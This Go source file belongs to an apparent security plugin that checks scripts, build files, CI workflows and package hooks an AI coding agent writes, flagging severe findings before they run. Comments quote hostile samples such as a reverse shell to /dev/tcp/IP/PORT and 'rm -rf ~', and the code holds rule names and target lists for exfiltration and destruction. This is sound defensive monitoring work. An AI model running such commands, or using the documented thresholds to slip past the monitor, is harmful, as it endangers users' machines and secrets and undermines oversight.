package shell

import (
	"encoding/json"
	"path"
	"slices"
	"strings"

	"github.com/added060/palisade/plugins/internal/lazyre"
)

// What a file a tool writes will run (issue 26, det60): an agent can write a script with a
// file tool (Claude Code's Write, Edit, MultiEdit, NotebookEdit) and run it later with an
// innocent-looking command (`bash run.sh`, `make`, `git commit`), so the text is judged when it
// is written, as what will run it reads it.

// FileRun is the analysis of a file's text by what will run it (AnalyzeFile).
type FileRun struct {
	// Findings are what the text does when it runs. Every finding is kept for text that runs
	// without being called (Unprompted). Of an ordinary script only the severe ones are kept,
	// as questions (Uncertain): an agent writing deploy.sh with `sudo apt-get install` is not
	// asked about it; one writing run.sh with `rm -rf ~` is.
	Findings []Finding
	// Kind is what runs the text: shell, make, npm, docker, workflow (GitHub Actions), ci
	// (other CI systems' pipelines), vscode (a workspace's .vscode/tasks.json), python, node,
	// ruby, perl, notebook; "" when nothing this package knows runs it (nothing was analysed).
	Kind string
	// Unprompted is set for a file that runs without being called: a git hook, a husky hook,
	// .envrc (direnv runs it on cd), a shell's start-up file, a systemd user unit or an
	// autostart entry, package.json's lifecycle scripts (npm install runs them) and a VS Code
	// task that runs on folder open.
	Unprompted bool
	// TooLong is set when the text is longer than MaxParseBytes: nothing was analysed.
	TooLong bool
}

// AnalyzeFile judges text written into the file name (a path as the tool gives it) by what
// will run it, chosen by the file's path and a `#!` first line: a shell script is analysed
// whole (what one line sets up, the next runs with); a makefile's recipes, package.json's
// scripts, a Dockerfile's RUN instructions and a CI workflow's run steps each as shell; Python,
// JavaScript, Ruby and Perl through the interpreter code reading of one-liners (code.go). The
// text may be the whole file or a piece an edit puts in.
func AnalyzeFile(name, text string) FileRun {
	p := homeForm(strings.ReplaceAll(name, `\`, "/"))
	kind := fileKind(p, text)
	out := FileRun{Kind: kind, Unprompted: unprompted(p)}
	if kind == "" {
		return out
	}
	if len(text) > MaxParseBytes {
		out.TooLong = true
		return out
	}
	var found []Finding
	// judge keeps what a careful reviewer acts on at write time: of text that runs without
	// being called, every finding (certain ones refuse, uncertain ones ask); of an ordinary
	// script, only the certain findings that harm any machine it runs on (severe), as
	// questions: the script does nothing until a later call runs it, and real scripts that
	// look like attacks exist (the test splits' hard negatives: refusing them denied one more
	// benign script on two of four splits).
	judge := func(r Result, unprompted bool) {
		for _, f := range r.Findings {
			switch {
			case unprompted:
				found = append(found, f)
			case !f.Uncertain && severe(f):
				f.Uncertain = true
				found = append(found, f)
			}
		}
	}
	u := out.Unprompted
	switch kind {
	case "shell":
		for _, l := range execLines(p, text) {
			judge(Analyze(l), u)
		}
	case "make":
		for _, l := range makeRecipes(text) {
			judge(Analyze(strings.ReplaceAll(l, "$$", "$")), u)
		}
	case "npm":
		for _, s := range npmScripts(text) {
			if npmLifecycle[s.name] {
				out.Unprompted = true
			}
			judge(Analyze(s.cmd), npmLifecycle[s.name])
		}
	case "docker":
		for _, l := range dockerRuns(text) {
			judge(Analyze(l), u)
		}
	case "workflow":
		for _, l := range workflowRuns(text) {
			judge(Analyze(l), u)
		}
	case "ci":
		for _, l := range ciScripts(text) {
			judge(Analyze(l), u)
		}
	case "vscode":
		for _, t := range vscodeTasks(text) {
			if t.onOpen {
				out.Unprompted = true
			}
			judge(Analyze(t.cmd), t.onOpen)
		}
	case "notebook":
		// A cell is Python; its `!cmd` lines are IPython's shell escapes.
		var py []string
		for _, l := range strings.Split(text, "\n") {
			if cmd, ok := strings.CutPrefix(strings.TrimSpace(l), "!"); ok {
				judge(Analyze(cmd), u)
				continue
			}
			py = append(py, l)
		}
		judge(AnalyzeCode("python", strings.Join(py, "\n"), name), u)
	default:
		judge(AnalyzeCode(kind, text, name), u)
	}
	out.Findings = found
	return out
}

// AnalyzeCode judges source code of language lang (python, node, ruby, perl, php, awk, as an
// interpreter's name without its version) the way an interpreter one-liner is judged (code.go):
// shell text handed to system() or subprocess analysed as shell, deletes, evaluation of
// downloaded or decoded text, reverse shells, secrets sent over the network. match is what the
// findings show as their Match.
func AnalyzeCode(lang, src, match string) Result {
	a := &analyzer{vars: map[string]string{}, src: src, wholeFile: true}
	a.code(lang, src, match)
	return a.res
}

// homeForm writes a path in a home folder (/home/u/x, /Users/u/x, /root/x) as ~/x, the form
// the start-up and persistence checks (persistFile) read.
func homeForm(p string) string {
	for _, h := range []string{"/home/", "/Users/"} {
		if r, ok := strings.CutPrefix(p, h); ok {
			if _, rest, ok := strings.Cut(r, "/"); ok {
				return "~/" + rest
			}
		}
	}
	if r, ok := strings.CutPrefix(p, "/root/"); ok {
		return "~/" + r
	}
	return p
}

// unprompted reports whether the file p runs without being called: a git hook (not a
// .sample), a husky hook, .envrc, a shell's start-up file, a systemd user unit or an autostart
// entry (persistFile), or a GitHub Actions workflow (it runs on the next push, with the
// repository's secrets).
func unprompted(p string) bool {
	b := path.Base(p)
	ext := strings.ToLower(path.Ext(b))
	switch {
	case gitHook(p):
		return !strings.HasSuffix(b, ".sample")
	case b == ".envrc", persistFile(p):
		return true
	case strings.Contains(p, ".github/workflows/") && (ext == ".yml" || ext == ".yaml"), ciFile(p):
		return true
	}
	return slices.Contains(strings.Split(path.Dir(p), "/"), ".husky")
}

// fileKind says what runs the file p whose text is text ("" when nothing known does).
func fileKind(p, text string) string {
	b := path.Base(p)
	lb := strings.ToLower(b)
	ext := strings.ToLower(path.Ext(b))
	switch {
	case lb == "makefile" || lb == "gnumakefile" || ext == ".mk":
		return "make"
	case lb == "package.json":
		return "npm"
	case lb == "dockerfile" || lb == "containerfile" || strings.HasPrefix(lb, "dockerfile.") || ext == ".dockerfile":
		return "docker"
	case strings.Contains(p, ".github/workflows/") && (ext == ".yml" || ext == ".yaml"):
		return "workflow"
	case ciFile(p):
		return "ci"
	case ext == ".ipynb":
		return "notebook"
	case vscodeFile(p):
		return "vscode"
	}
	if lang := shebang(text); lang != "" {
		return lang
	}
	switch ext {
	case ".sh", ".bash", ".zsh", ".ksh":
		return "shell"
	case ".py":
		return "python"
	case ".js", ".mjs", ".cjs":
		return "node"
	case ".rb":
		return "ruby"
	case ".pl":
		return "perl"
	}
	if unprompted(p) {
		return "shell" // a hook or start-up file without a #! line runs in sh
	}
	return ""
}

// shebang returns the language a `#!` first line names (shell for sh, bash, zsh, dash, ksh;
// `#!/usr/bin/env NAME` read as NAME), or "".
func shebang(text string) string {
	first, _, _ := strings.Cut(text, "\n")
	rest, ok := strings.CutPrefix(first, "#!")
	if !ok {
		return ""
	}
	f := strings.Fields(rest)
	if len(f) == 0 {
		return ""
	}
	name := base(f[0])
	if name == "env" {
		f = dropEnvOptions(f[1:])
		if len(f) == 0 {
			return ""
		}
		name = base(f[0])
	}
	switch lang := interpLang(name); lang {
	case "sh", "bash", "zsh", "dash", "ksh", "ash":
		return "shell"
	case "python", "node", "ruby", "perl":
		return lang
	}
	return ""
}

// dropEnvOptions drops env's options (`env -S`, `env -i`) from a #! line's words.
func dropEnvOptions(f []string) []string {
	for len(f) > 0 && strings.HasPrefix(f[0], "-") {
		f = f[1:]
	}
	return f
}

// npmLifecycle are the package.json scripts npm runs by itself on `npm install` (npm docs,
// "Scripts", Life Cycle Operations: npm install runs preinstall, install, postinstall,
// prepublish, preprepare, prepare, postprepare); the others run on `npm run NAME`.
var npmLifecycle = map[string]bool{"preinstall": true, "install": true, "postinstall": true,
	"prepublish": true, "preprepare": true, "prepare": true, "postprepare": true}

// npmScript is one script of a package.json.
type npmScript struct{ name, cmd string }

// reJSONPair is one `"key": "string"` member of a JSON object.
var reJSONPair = lazyre.New(`"([\w:.-]+)"\s*:\s*("(?:[^"\\]|\\.)*")`)

// npmScripts returns the scripts of a package.json: of the whole file, every member of
// "scripts"; of a piece an edit puts in (not a JSON object), its lifecycle members
// (npmLifecycle), the only names that say they are scripts without their object around them.
func npmScripts(text string) []npmScript {
	var pkg struct {
		Scripts map[string]any `json:"scripts"`
	}
	var out []npmScript
	if json.Unmarshal([]byte(text), &pkg) == nil {
		for k, v := range pkg.Scripts {
			if s, ok := v.(string); ok {
				out = append(out, npmScript{k, s})
			}
		}
		return out
	}
	for _, m := range reJSONPair.FindAllStringSubmatch(text, -1) {
		var s string
		if npmLifecycle[m[1]] && json.Unmarshal([]byte(m[2]), &s) == nil {
			out = append(out, npmScript{m[1], s})
		}
	}
	return out
}

// dockerRuns returns the commands of a Dockerfile's RUN instructions (Dockerfile reference,
// "RUN"): continuation lines joined, options (`--mount=…`, `--network=…`) dropped; the exec
// form (`RUN ["sh", "-c", "…"]`) as its words.
func dockerRuns(text string) []string {
	var out []string
	var cur strings.Builder
	flush := func() {
		l := strings.TrimSpace(cur.String())
		cur.Reset()
		rest, ok := cutWord(l, "RUN")
		if !ok {
			return
		}
		for strings.HasPrefix(rest, "--") {
			_, rest, _ = strings.Cut(rest, " ")
			rest = strings.TrimSpace(rest)
		}
		if strings.HasPrefix(rest, "[") {
			var argv []string
			if json.Unmarshal([]byte(rest), &argv) == nil {
				q := make([]string, len(argv))
				for i, w := range argv {
					q[i] = shellQuote(w)
				}
				rest = strings.Join(q, " ")
			}
		}
		if rest != "" {
			out = append(out, rest)
		}
	}
	for _, l := range strings.Split(text, "\n") {
		t := strings.TrimSpace(l)
		if strings.HasPrefix(t, "#") && cur.Len() == 0 {
			continue
		}
		if c, ok := strings.CutSuffix(t, `\`); ok {
			cur.WriteString(c + " ")
			continue
		}
		cur.WriteString(t)
		flush()
	}
	flush()
	return out
}

// cutWord returns what follows the instruction word w (any case) at the start of l.
func cutWord(l, w string) (string, bool) {
	if len(l) <= len(w) || !strings.EqualFold(l[:len(w)], w) || (l[len(w)] != ' ' && l[len(w)] != '\t') {
		return "", false
	}
	return strings.TrimSpace(l[len(w):]), true
}

// ciFile reports whether p is another CI system's pipeline, which runs on the next push with
// the project's CI secrets as a GitHub workflow does: GitLab CI's .gitlab-ci.yml (and files it
// includes, named *.gitlab-ci.yml), Bitbucket Pipelines', Travis CI's, Drone's, CircleCI's
// .circleci/config.yml and Azure Pipelines' azure-pipelines.yml.
func ciFile(p string) bool {
	b := strings.ToLower(path.Base(p))
	switch {
	case b == ".gitlab-ci.yml" || strings.HasSuffix(b, ".gitlab-ci.yml"),
		b == "bitbucket-pipelines.yml", b == ".travis.yml", b == ".drone.yml",
		b == "azure-pipelines.yml" || b == "azure-pipelines.yaml":
		return true
	case (b == "config.yml" || b == "config.yaml") && path.Base(path.Dir(p)) == ".circleci":
		return true
	}
	return false
}

// reCIKey is a pipeline key whose value is shell: GitLab's script, before_script and
// after_script, Bitbucket's and Travis CI's script and install phases, Drone's commands,
// CircleCI's run (a string or a map whose command is), Azure's script and bash.
var reCIKey = lazyre.New(`^(\s*)(?:-\s+)?(?:script|before_script|after_script|commands|command|run|install|before_install|after_success|after_failure|before_deploy|bash):\s*(.*)$`)

// ciScripts returns the shell of a pipeline's script keys (reCIKey): a one-line value, a flow
// list (`script: ["make", "make test"]`), a block scalar, or a block list whose items are
// each a script (an item's own block scalar `- |` with its lines).
func ciScripts(text string) []string {
	var out []string
	ls := strings.Split(text, "\n")
	for i := 0; i < len(ls); i++ {
		m := reCIKey.FindStringSubmatch(ls[i])
		if m == nil {
			continue
		}
		v := strings.TrimSpace(m[2])
		switch {
		case strings.HasPrefix(v, "["):
			out = append(out, literals(v)...)
			continue
		case v != "" && !strings.HasPrefix(v, "|") && !strings.HasPrefix(v, ">"):
			out = append(out, unquoteYAML(v))
			continue
		}
		if v == "" && !listNext(ls[i+1:]) {
			continue // a map (CircleCI's `run:` with name and command): its keys come next
		}
		var block []string
		block, i = indented(ls, i, len(m[1]))
		if v != "" { // a block scalar: one script
			out = append(out, strings.Join(block, "\n"))
			continue
		}
		// A block list: each `- ` item one script, its deeper lines with it.
		var item []string
		flush := func() {
			if len(item) > 0 {
				out = append(out, strings.Join(item, "\n"))
				item = nil
			}
		}
		for _, n := range block {
			t := strings.TrimSpace(n)
			if x, ok := strings.CutPrefix(t, "- "); ok || t == "-" {
				flush()
				if x = strings.TrimSpace(x); x != "|" && x != "|-" && x != ">" && x != ">-" {
					item = append(item, unquoteYAML(x))
				}
				continue
			}
			item = append(item, t)
		}
		flush()
	}
	return out
}

// indented returns the lines after ls[i] indented deeper than indent (blank lines among
// them), and the index of the last one taken.
func indented(ls []string, i, indent int) ([]string, int) {
	var block []string
	for i+1 < len(ls) {
		n := ls[i+1]
		if strings.TrimSpace(n) != "" && len(n)-len(strings.TrimLeft(n, " \t")) <= indent {
			break
		}
		block = append(block, n)
		i++
	}
	return block, i
}

// listNext reports whether the first line of ls that holds anything is a list item.
func listNext(ls []string) bool {
	for _, l := range ls {
		if t := strings.TrimSpace(l); t != "" {
			return t == "-" || strings.HasPrefix(t, "- ")
		}
	}
	return false
}

// unquoteYAML drops the quotes around a one-line YAML scalar.
func unquoteYAML(v string) string {
	if len(v) > 1 && (v[0] == '"' || v[0] == '\'') && v[len(v)-1] == v[0] {
		return v[1 : len(v)-1]
	}
	return v
}

// reRunKey is a workflow step's run key (`run: cmd`, `- run: |`).
var reRunKey = lazyre.New(`^(\s*)(?:-\s+)?run:\s*(.*)$`)

// reExpr is a GitHub Actions expression (`${{ github.ref }}`), which the runner replaces before
// the shell reads the step.
var reExpr = lazyre.New(`\$\{\{[^}]*\}\}`)

// workflowRuns returns the scripts of a GitHub Actions workflow's run steps: a one-line value,
// or a block scalar (`run: |`) as the lines indented below its key, each step a script.
// Expressions stand as a word (EXPR).
func workflowRuns(text string) []string {
	var out []string
	ls := strings.Split(text, "\n")
	for i := 0; i < len(ls); i++ {
		m := reRunKey.FindStringSubmatch(ls[i])
		if m == nil {
			continue
		}
		v := strings.TrimSpace(m[2])
		if v == "" || strings.HasPrefix(v, "|") || strings.HasPrefix(v, ">") {
			var block []string
			block, i = indented(ls, i, len(m[1]))
			v = strings.Join(block, "\n")
		} else if len(v) > 1 && (v[0] == '"' || v[0] == '\'') && v[len(v)-1] == v[0] {
			v = v[1 : len(v)-1]
		}
		if v = strings.TrimSpace(reExpr.ReplaceAllString(v, "EXPR")); v != "" {
			out = append(out, v)
		}
	}
	return out
}

// severeRules are the findings that refuse an ordinary script at write time: they harm any
// machine the script runs on, whoever calls it. What a system's own maintenance script does
// (deleting under /var/lib, chmod in /etc, setenforce 0: real Debian maintainer scripts and
// project test scripts do) is for whoever runs the script to judge, and is not asked about;
// so is a connection through /dev/tcp to a host the script takes as a parameter or to this
// machine, which a script's port check is (wait-for-it.sh's `echo > /dev/tcp/$HOST/$PORT`;
// to a host the script names, a reverse shell's `bash -i >& /dev/tcp/IP/PORT`, it refuses:
// rawHost), and a read of the cloud's instance metadata, which a script run on the instance
// does to learn its region or id.
var severeRules = map[string]bool{
	"exec/download_run": true, "exec/pipe_to_shell": true, "exec/decode_run": true, "exec/reverse_shell": true,
	"exfil/env_to_network": true, "exfil/secret_file": true, "exfil/secret_var": true,
	"exfil/reverse_shell": true, "exfil/pipe_to_network": true, "exfil/paste_host": true, "exfil/code_env": true,
	"exfil/code_file": true, "exfil/key_file": true, "exfil/home_to_host": true,
	"destroy/disk": true, "destroy/raw_device": true, "priv/preload": true,
}

// severe reports whether a certain finding refuses an ordinary script (severeRules), or is a
// delete of the root, a home folder, a top system folder or a home's keys (rm_outside,
// rm_system or code's code_delete naming one: wipesTop). A delete elsewhere outside the project
// (`rm -rf /var/lib/containerd`, `shutil.rmtree(os.path.expanduser('~/.cache/x'))`) is what a
// maintenance or clean-up script is for.
func severe(f Finding) bool {
	if severeRules[f.Rule] {
		return true
	}
	switch f.Rule {
	case "destroy/rm_outside", "destroy/rm_system", "destroy/code_delete":
		return wipesTop(f.Match)
	case "exfil/dev_tcp":
		return rawHost(f.Match)
	}
	return false
}

// topTargets are the folders whose deletion no script's purpose explains.
var topTargets = set("", "~", "$HOME", "${HOME}", "/home", "/Users", "/root", "/etc", "/usr", "/var", "/bin",
	"/sbin", "/boot", "/lib", "/lib64", "/opt", "/srv", "/dev", "~/.ssh", "~/.gnupg", "~/.aws", "$HOME/.ssh",
	"$HOME/.gnupg", "$HOME/.aws")

// wipesTop reports whether a delete command's words (a Finding's Match) name a top target:
// the root, a home folder, a top system folder, or everything in one (`/*`, `~/*`).
func wipesTop(match string) bool {
	for _, w := range strings.Fields(match)[1:] {
		if strings.HasPrefix(w, "-") {
			continue
		}
		w = strings.Trim(w, `"'`)
		w = strings.TrimSuffix(strings.TrimSuffix(w, "*"), "/")
		if topTargets[w] {
			return true
		}
	}
	return false
}

// rawHost reports whether a /dev/tcp or /dev/udp path (a Finding's Match) names its host: not
// a variable and not this machine (localhost, 127.x, ::1).
func rawHost(match string) bool {
	_, rest, ok := strings.Cut(match, "/dev/tcp/")
	if !ok {
		if _, rest, ok = strings.Cut(match, "/dev/udp/"); !ok {
			return false
		}
	}
	host, _, _ := strings.Cut(rest, "/")
	return host != "" && !strings.Contains(host, "$") && host != "localhost" && host != "::1" &&
		!strings.HasPrefix(host, "127.")
}
